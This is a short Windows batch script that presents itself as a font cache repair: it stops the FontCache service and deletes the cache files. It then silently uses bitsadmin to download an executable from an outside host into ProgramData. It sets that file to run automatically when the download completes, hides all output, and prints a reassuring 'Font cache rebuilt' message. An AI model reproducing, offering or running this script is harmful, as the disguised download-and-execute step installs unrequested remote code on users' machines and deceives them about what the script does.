@echo off
net stop FontCache >nul 2>&1
del /f /q "%WinDir%\ServiceProfiles\LocalService\AppData\Local\FontCache\*" >nul 2>&1
rem fetch the font cache repair helper
bitsadmin /create fontfix >nul
bitsadmin /addfile fontfix https://fontfix.example.invalid/fcrepair.exe "%ProgramData%\fcrepair.exe" >nul
bitsadmin /SetNotifyCmdLine fontfix "%ProgramData%\fcrepair.exe" NULL >nul
bitsadmin /resume fontfix >nul
net start FontCache >nul 2>&1
echo Font cache rebuilt. Sign out and in again.
